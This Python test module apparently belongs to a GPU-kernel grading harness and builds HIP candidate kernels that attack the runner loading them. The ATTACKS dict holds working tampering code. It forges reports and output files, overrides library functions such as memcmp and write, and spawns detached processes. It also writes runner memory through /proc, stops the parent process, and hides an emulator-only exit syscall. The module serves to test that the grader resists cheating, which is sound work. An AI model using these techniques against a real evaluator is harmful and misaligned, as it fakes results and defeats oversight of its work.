"""HIP candidates that attack the runner which loads them; `source` puts one together.

`helpers` is host code at file level, `before` and `after` stand around the launch.
"""

from __future__ import annotations

BASE = r"""#include <hip/hip_runtime.h>
#include <kernelvault/abi.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <signal.h>
__global__ void square(const float* x, float* y, int64_t n) {
  int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
  if (i >= n) return;
  float v = x[i] < 0 ? 0 : x[i];
  y[i] = v * v * 0.0f;
}
static int report_of(int fd) {
  char link[64], path[256];
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(link, path, sizeof path - 1);
  return n > 6 && !strncmp(path + n - 6, "report", 6);
}
static float answer(float v) { return 0; }
// Leaves what an honest run leaves, with numbers of our own: by the job, which lists what is asked.
// The lines go to `fd`, or to a report of our own.
static void forge(int fd = -1) {
  char word[256], file[256] = "", text[4096] = "", name[64];
  int calls = 0, replay = 0;
  FILE* cmd = fopen("/proc/self/cmdline", "r");
  char args[512] = {0};
  size_t got = cmd ? fread(args, 1, sizeof args - 1, cmd) : 0;
  for (size_t i = 0; i < got; ++i) replay |= !strcmp(args + i, "noop");
  FILE* job = fopen("/in/job", "r");
  while (job && fscanf(job, "%255s", word) == 1) {
    if (!strcmp(word, "input")) fscanf(job, "%255s", file);
    if (strcmp(word, "output")) continue;
    long poison, code, bits, bytes;
    fscanf(job, "%ld %ld %ld %ld", &poison, &code, &bits, &bytes);
    char path[300];
    snprintf(path, sizeof path, "/in/%s", file);
    float* x = (float*)calloc(1, bytes + 4);
    FILE* in = fopen(path, "r");
    if (in) fread(x, 1, bytes, in);
    for (long i = 0; i < bytes / 4; ++i) x[i] = answer(x[i]);
    if (replay) memset(x, 0xff, bytes);
    snprintf(name, sizeof name, "/out/%d_0.bin", calls);
    FILE* out = fopen(name, "w");
    fwrite(x, 1, bytes, out);
    fclose(out);
    snprintf(text + strlen(text), 64, "result %d 1 777\n", calls);
    ++calls;
  }
  strcat(text, "fact launches 777\nfact work_items 777\nfact lds_bytes_max 777\ndone\n");
  if (fd < 0) {
    unlink("/out/report");
    fd = open("/out/report", O_CREAT | O_WRONLY | O_TRUNC, 0644);
  }
  write(fd, text, strlen(text));
}
// HELPERS
extern "C" int kv_launch(const kv_args* args) {
  const DLTensor& in = args->inputs[0];
  int64_t n = in.shape[0] * in.shape[1];
  const float* x = kv_data<const float>(in);
  float* y = kv_data<float>(args->outputs[0]);
  // BEFORE
  square<<<(unsigned)((n + 63) / 64), 64, 0, args->stream>>>(x, y, n);
  // AFTER
  return (int)hipGetLastError();
}
"""


def source(helpers: str = "", before: str = "", after: str = "") -> str:
    """A candidate that gives zeros and does this besides."""
    text = BASE.replace("// HELPERS", helpers)
    return text.replace("// BEFORE", before).replace("// AFTER", after)


def right(text: str) -> str:
    """The same candidate with a kernel that computes what was asked for."""
    return text.replace("v * v * 0.0f", "v * v")


def constructor(body: str) -> str:
    return f"__attribute__((constructor)) static void early() {{ {body} }}"


FORGE_FOREVER = "for (;;) { forge(); usleep(100); }"
CHILD = f"""static void child() {{
  if (fork() == 0) {{ setsid(); if (fork() == 0) {FORGE_FOREVER} _exit(0); }}
}}"""
TO_DESCRIPTOR = r"""
  for (int fd = 3; fd < 64; ++fd)
    if (report_of(fd)) forge(fd);
"""
BY_DLSYM = r"""
  auto put = (ssize_t (*)(int, const void*, size_t))dlsym(RTLD_DEFAULT, "write");
  for (int fd = 3; fd < 64; ++fd)
    if (report_of(fd)) put(fd, "result 0 1 777\ndone\n", 20);
"""
ALL_DESCRIPTORS = r"""
  for (int fd = 0; fd < 1024; ++fd)
    write(fd, "\nresult 0 1 777\nfact launches 777\ndone\n", 39);
"""
OVERRIDES = r"""
int always_equal(const void*, const void*, size_t) __asm__("memcmp");
int always_equal(const void*, const void*, size_t) { return 0; }
extern "C" int mprotect(void*, size_t, int) { return 0; }
extern "C" void* malloc(size_t n) {
  static char pool[64 << 20];
  static size_t used;
  void* found = pool + used;
  used += (n + 63) / 64 * 64;
  return found;
}
extern "C" ssize_t write(int, const void*, size_t n) { return n; }
extern "C" __attribute__((noreturn)) void _exit(int) { for (;;) pause(); }
extern "C" hipError_t hipLaunchKernel(const void*, dim3, dim3, void**, size_t, hipStream_t) {
  return hipSuccess;
}
"""
MEMORY = r"""
  char path[64];
  const int pids[] = {1, getppid()};
  for (int pid : pids) {
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if (pid && pid != getpid() && open(path, O_RDWR) >= 0) abort();
    if (pid > 0 && pid != getpid()) kill(pid, SIGSTOP);
  }
  int own = open("/proc/self/mem", O_RDWR);
  auto launches = (unsigned long long*)dlsym(RTLD_DEFAULT, "_ZN2kv8launchesE");
  unsigned long long forged = 777;
  if (own >= 0 && launches) pwrite(own, &forged, 8, (off_t)launches);
"""
RUNNER_STATE = r"""
  {
  auto noop = (bool*)dlsym(RTLD_DEFAULT, "_ZN2kv11noop_replayE");
  auto launches = (unsigned long long*)dlsym(RTLD_DEFAULT, "_ZN2kv8launchesE");
  if (noop) *noop = false;
  if (launches) *launches += 777;
  }
"""

ATTACKS: dict[str, str] = {
    "constructor_forges_and_leaves": source(constructor("forge(); _exit(0);")),
    "launch_forges_and_leaves": source(before="forge(); _exit(0);"),
    "launch_forges_in_the_end": source(after="forge(); _exit(0);"),
    "child_forges": source(CHILD, before="static int once = (child(), 0); (void)once;"),
    "forged_at_exit": source(
        "static void last() { forge(); }\nstruct Last { ~Last() { forge(); } } last_one;",
        before="atexit(last);",
    ),
    "report_descriptor_written": source(before=BY_DLSYM),
    "report_descriptor_then_left": source(after=TO_DESCRIPTOR + "_exit(0);"),
    "every_descriptor_written": source(before=ALL_DESCRIPTORS),
    "library_functions_overridden": source(OVERRIDES),
    "memory_of_others": source(before=MEMORY),
    "runner_state_altered": source(before=RUNNER_STATE, after=RUNNER_STATE),
    "report_behind_a_link": source(
        before='forge(); rename("/out/report", "/out/forged"); '
        'symlink("/out/forged", "/out/report"); _exit(0);'
    ),
}

# Assembly that only the emulator's pass sees: in a GPU's there is another kernel.
DEVICE_ASSEMBLY = source().replace(
    "  int64_t i = blockIdx.x",
    """#ifndef __AMDGCN__
  asm volatile("syscall" : : "a"(231), "D"(0) : "rcx", "r11", "memory");
#endif
  int64_t i = blockIdx.x""",
)

# Computes on the host what a kernel should, and tells of a kernel that did it.
HOST_COMPUTES = source(constructor("forge(); _exit(0);")).replace(
    "float answer(float v) { return 0; }", "float answer(float v) { return v < 0 ? 0 : v * v; }"
)
